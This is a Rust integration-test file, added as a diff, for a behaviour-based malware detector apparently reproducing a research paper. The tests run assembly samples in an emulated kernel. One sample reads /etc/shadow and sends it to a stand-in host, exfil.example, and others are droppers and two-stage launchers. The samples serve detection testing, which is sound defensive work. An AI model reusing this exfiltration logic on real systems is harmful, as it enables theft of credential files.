@@ -1,0 +1,327 @@
+//! Cross-crate integration tests: the complete HTH pipeline from
+//! assembly source to Secpert warnings, exercised through the public
+//! `hth` facade.
+
+use hth::hth_workloads::{all_scenarios, Group};
+use hth::{PolicyConfig, Session, SessionConfig, Severity};
+
+/// Every scenario in the repository must match its expected
+/// classification — this is the headline reproduction claim (paper §8).
+#[test]
+fn every_paper_scenario_is_classified_as_expected() {
+    let scenarios = all_scenarios();
+    assert!(scenarios.len() >= 45, "the full corpus should be present, got {}", scenarios.len());
+    let mut failures = Vec::new();
+    for scenario in scenarios {
+        let result = scenario.run().expect("scenario runs");
+        if !result.correct() {
+            failures.push(format!(
+                "[{}] {}: expected {:?}, max={:?}, rules={:?}",
+                scenario.group.table(),
+                scenario.id,
+                scenario.expected,
+                result.max_severity(),
+                result.rules_fired(),
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "misclassified scenarios:\n{}", failures.join("\n"));
+}
+
+/// Detection table: all exploits warn, no exploit is missed.
+#[test]
+fn all_exploits_detected_none_missed() {
+    for scenario in all_scenarios() {
+        if scenario.group == Group::Exploit {
+            let result = scenario.run().expect("runs");
+            assert!(
+                result.max_severity().is_some(),
+                "{} must produce at least one warning",
+                scenario.id
+            );
+        }
+    }
+}
+
+/// False positives on trusted programs are Low severity only.
+#[test]
+fn trusted_false_positives_are_low_only() {
+    for scenario in all_scenarios() {
+        if scenario.group == Group::Trusted {
+            let result = scenario.run().expect("runs");
+            if let Some(sev) = result.max_severity() {
+                assert_eq!(sev, Severity::Low, "{}", scenario.id);
+            }
+        }
+    }
+}
+
+/// A full user story through the facade: install files, hosts and a
+/// peer; run a data-stealing program; check the High warning explains
+/// itself (source, target, and both hardcoded origins).
+#[test]
+fn exfiltration_warning_explains_itself() {
+    use hth::emukernel::{Endpoint, FileNode, Peer};
+    let mut session = Session::new(SessionConfig::default()).unwrap();
+    session
+        .kernel
+        .vfs
+        .install("/etc/shadow", FileNode::regular(b"root:$6$salt$hash".to_vec()));
+    session.kernel.net.add_host("exfil.example", 0x0505_0505);
+    session.kernel.net.add_peer(Endpoint { ip: 0x0505_0505, port: 443 }, Peer::default());
+    session.kernel.register_binary(
+        "/bin/stealer",
+        r#"
+        _start:
+            mov eax, 5
+            mov ebx, path
+            mov ecx, 0
+            int 0x80
+            mov edi, eax
+            mov eax, 3
+            mov ebx, edi
+            mov ecx, 0x09000000
+            mov edx, 16
+            int 0x80
+            mov eax, 102
+            mov ebx, 1
+            mov ecx, sockargs
+            int 0x80
+            mov esi, eax
+            mov [connargs], esi
+            mov eax, 102
+            mov ebx, 3
+            mov ecx, connargs
+            int 0x80
+            mov [sendargs], esi
+            mov eax, 102
+            mov ebx, 9
+            mov ecx, sendargs
+            int 0x80
+            mov eax, 1
+            mov ebx, 0
+            int 0x80
+        .data
+        path:     .asciz "/etc/shadow"
+        sockargs: .long 2, 1, 0
+        addr:     .word 2
+        port:     .word 443
+        ip:       .long 0x05050505
+        connargs: .long 0, addr, 8
+        sendargs: .long 0, 0x09000000, 16, 0
+        "#,
+        &[],
+    );
+    session.start("/bin/stealer", &["/bin/stealer"], &[]).unwrap();
+    session.run().unwrap();
+    assert_eq!(session.max_severity(), Some(Severity::High));
+    let warning = session
+        .warnings()
+        .iter()
+        .find(|w| w.rule == "flow_file_to_socket")
+        .expect("exfiltration rule fires")
+        .clone();
+    assert!(warning.message.contains("/etc/shadow"), "{warning}");
+    assert!(warning.message.contains("exfil.example:443"), "{warning}");
+    assert!(warning.message.contains("hardcoded"), "{warning}");
+}
+
+/// Custom trust lists change classifications: trusting the X libraries
+/// silences the xeyes false positive, exactly as the policy intends.
+#[test]
+fn trusting_x_libraries_silences_xeyes() {
+    let scenario = all_scenarios().into_iter().find(|s| s.id == "xeyes").unwrap();
+    let mut policy = PolicyConfig::default();
+    policy.trusted_binaries.push("libX11.so".to_string());
+    let config = SessionConfig { policy, ..SessionConfig::default() };
+    let result = scenario.run_with(config).unwrap();
+    assert!(result.warnings.is_empty(), "{:?}", result.warnings);
+}
+
+/// Disabling dataflow tracking (the §9 cheap configuration) loses the
+/// origin information and with it the hardcoded-execve warning:
+/// the policy's precision depends on taint tracking.
+#[test]
+fn no_dataflow_means_no_origin_warnings() {
+    let scenario =
+        all_scenarios().into_iter().find(|s| s.id == "execve_hardcode").unwrap();
+    let mut config = SessionConfig::default();
+    config.harrier.track_dataflow = false;
+    let result = scenario.run_with(config).unwrap();
+    assert!(result.warnings.is_empty(), "{:?}", result.warnings);
+}
+
+/// Multi-process monitoring: every monitored child of a fork bomb is
+/// tracked (the session keeps shadows per pid).
+#[test]
+fn fork_children_are_monitored_too() {
+    let scenario = all_scenarios().into_iter().find(|s| s.id == "tree_forker").unwrap();
+    let result = scenario.run().unwrap();
+    assert!(result.report.exited.len() >= 30, "tree of 2^5 processes expected");
+    assert!(result.warnings.iter().any(|w| w.rule == "check_clone_count"));
+}
+
+/// The paper's severity ordering is observable end to end: socket-origin
+/// execve (High) outranks hardcoded execve (Low).
+#[test]
+fn severity_ordering_matches_paper() {
+    let ids = ["execve_user_input", "execve_hardcode", "execve_infrequent", "execve_remote"];
+    let mut sevs = Vec::new();
+    for id in ids {
+        let scenario = all_scenarios().into_iter().find(|s| s.id == id).unwrap();
+        sevs.push(scenario.run().unwrap().max_severity());
+    }
+    assert_eq!(sevs[0], None);
+    assert_eq!(sevs[1], Some(Severity::Low));
+    assert_eq!(sevs[2], Some(Severity::Medium));
+    assert_eq!(sevs[3], Some(Severity::High));
+}
+
+/// Simultaneous sessions (paper §10, item 7): one session can monitor
+/// two unrelated programs at once; warnings carry the right pid.
+#[test]
+fn two_programs_monitored_simultaneously() {
+    let mut session = Session::new(SessionConfig::default()).unwrap();
+    session.kernel.register_binary(
+        "/bin/benign",
+        r"
+        _start:
+            mov eax, 4
+            mov ebx, 1
+            mov ecx, 0x09000000
+            mov edx, 4
+            int 0x80
+            mov eax, 1
+            mov ebx, 0
+            int 0x80
+        ",
+        &[],
+    );
+    session.kernel.register_binary(
+        "/bin/dropper",
+        r#"
+        _start:
+            mov eax, 11
+            mov ebx, prog
+            int 0x80
+            hlt
+        .data
+        prog: .asciz "/bin/ls"
+        "#,
+        &[],
+    );
+    let benign_pid = session.start("/bin/benign", &["/bin/benign"], &[]).unwrap();
+    let dropper_pid = session.start("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
+    session.run().unwrap();
+    assert_ne!(benign_pid, dropper_pid);
+    let warnings = session.warnings();
+    assert!(!warnings.is_empty());
+    assert!(warnings.iter().all(|w| w.pid == dropper_pid), "{warnings:?}");
+}
+
+/// Hybrid static analysis (paper §10, item 2): a Secure Binary (no
+/// hardcoded resource names) runs without the data-flow tracker; a
+/// non-secure one keeps full tracking and still warns.
+#[test]
+fn hybrid_static_analysis_skips_dataflow_for_secure_binaries() {
+    let secure_src = r"
+        _start:
+            mov ebp, esp
+            mov ebx, [ebp+8]    ; file named by the user, nothing hardcoded
+            mov eax, 5
+            mov ecx, 0
+            int 0x80
+            mov eax, 1
+            mov ebx, 0
+            int 0x80
+        ";
+    let config = SessionConfig { hybrid_static_analysis: true, ..SessionConfig::default() };
+    let mut session = Session::new(config.clone()).unwrap();
+    session.kernel.vfs.install("notes.txt", hth::emukernel::FileNode::regular(b"x".to_vec()));
+    session.kernel.register_binary("/bin/secure", secure_src, &[]);
+    session.start("/bin/secure", &["/bin/secure", "notes.txt"], &[]).unwrap();
+    session.run().unwrap();
+    assert!(!session.harrier().config().track_dataflow, "audit should disable dataflow");
+    assert!(session.warnings().is_empty());
+
+    // A dropper (hardcoded strings) keeps full tracking under hybrid mode.
+    let mut session = Session::new(config).unwrap();
+    session.kernel.register_binary(
+        "/bin/dropper",
+        r#"
+        _start:
+            mov eax, 11
+            mov ebx, prog
+            int 0x80
+            hlt
+        .data
+        prog: .asciz "/bin/ls"
+        "#,
+        &[],
+    );
+    session.start("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
+    session.run().unwrap();
+    assert!(session.harrier().config().track_dataflow);
+    assert_eq!(session.max_severity(), Some(Severity::Low));
+}
+
+/// execve into a *registered* binary replaces the image and monitoring
+/// continues: a launcher execs a dropper, and the dropper's hardcoded
+/// write (in the NEW image) is still caught with the right origin.
+#[test]
+fn monitoring_survives_execve_image_replacement() {
+    let mut session = Session::new(SessionConfig::default()).unwrap();
+    session.kernel.register_binary(
+        "/bin/stage2",
+        r#"
+        _start:
+            mov eax, 5
+            mov ebx, dropname
+            mov ecx, 0x41
+            int 0x80
+            mov esi, eax
+            mov eax, 4
+            mov ebx, esi
+            mov ecx, payload
+            mov edx, 9
+            int 0x80
+            mov eax, 1
+            mov ebx, 0
+            int 0x80
+        .data
+        dropname: .asciz "/tmp/stage2-drop"
+        payload:  .asciz "STAGE-TWO"
+        "#,
+        &[],
+    );
+    session.kernel.register_binary(
+        "/bin/stage1",
+        r#"
+        _start:
+            mov eax, 11         ; execve the (registered) second stage
+            mov ebx, prog
+            int 0x80
+            hlt                 ; unreachable on success
+        .data
+        prog: .asciz "/bin/stage2"
+        "#,
+        &[],
+    );
+    session.start("/bin/stage1", &["/bin/stage1"], &[]).unwrap();
+    let report = session.run().unwrap();
+    assert!(report.faults.is_empty(), "{report:?}");
+    // The exec itself warned Low (hardcoded name)…
+    assert!(session.warnings().iter().any(|w| w.rule == "check_execve"));
+    // …and the *new image's* dropper behaviour warned High, with the
+    // origin attributed to /bin/stage2 (the post-exec binary).
+    let drop = session
+        .warnings()
+        .iter()
+        .find(|w| w.rule == "flow_binary_to_file")
+        .expect("stage2's write is monitored")
+        .clone();
+    assert!(drop.message.contains("/tmp/stage2-drop"), "{drop}");
+    assert!(drop.message.contains("/bin/stage2"), "{drop}");
+    // The file really was written by the replaced image.
+    assert_eq!(session.kernel.vfs.get("/tmp/stage2-drop").unwrap().data(), b"STAGE-TWO");
+}
